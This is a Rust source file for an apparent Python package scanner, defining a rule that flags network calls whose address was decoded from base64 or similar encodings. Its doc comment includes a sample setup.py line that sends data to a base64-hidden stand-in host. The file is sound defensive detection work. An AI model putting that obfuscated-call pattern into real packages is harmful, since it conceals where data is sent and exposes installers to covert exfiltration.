//! ## What it detects
//!
//! A network call whose address was decoded from base64, hexadecimal, character codes or the like.
//!
//! ## Why it is bad
//!
//! Nobody hides an address that may be known.
//!
//! ## Innocent lookalikes
//!
//! Data that is decoded and then sent to a plain address does not count.
//!
//! ## Bad
//!
//! ```python setup.py
//! import base64, requests
//! requests.post(base64.b64decode('aHR0cDovL3guZXhhbXBsZS5pbnZhbGlkL2E=').decode(), data='x')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import base64, requests
//! requests.post('http://x.example.invalid', data=base64.b64decode('aGVsbG8='))
//! ```

use fondaco_python::{Api, Encoder, Taint, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("decoded-address"),
    title: "hides whom it talks to",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Obfuscation),
    weight: 1.5,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let talks = matches!(call.api, Some(Api::NetworkFetch | Api::NetworkSend | Api::Socket));
        let address = call.kwargs.iter().find(|(key, _)| key == "url").map(|(_, value)| value).or(call.args.first());
        let second = call.args.get(1).filter(|_| call.callee.ends_with(".request"));
        if talks && address.into_iter().chain(second).any(is_decoded_address) {
            // Hidden is hidden, whichever way the call is reached.
            hits.line(unit, call.line, format!("{} with an address that was hidden", call.callee));
        }
    }
}

fn is_decoded_address(value: &Value) -> bool {
    let items = value.as_list().unwrap_or_default();
    let is_address = |text: &str| {
        let text = text.trim();
        text.starts_with("http://") || text.starts_with("https://") || text.parse::<std::net::Ipv4Addr>().is_ok()
    };
    items.iter().chain([value]).any(|v| {
        let whole = v.as_bytes().and_then(|bytes| std::str::from_utf8(bytes).ok());
        v.taint.has(Taint::DECODED) && !v.taint.has(Taint::NETWORK) && v.encoders().iter().any(|e| *e != Encoder::Escapes) && whole.is_some_and(is_address)
    })
}
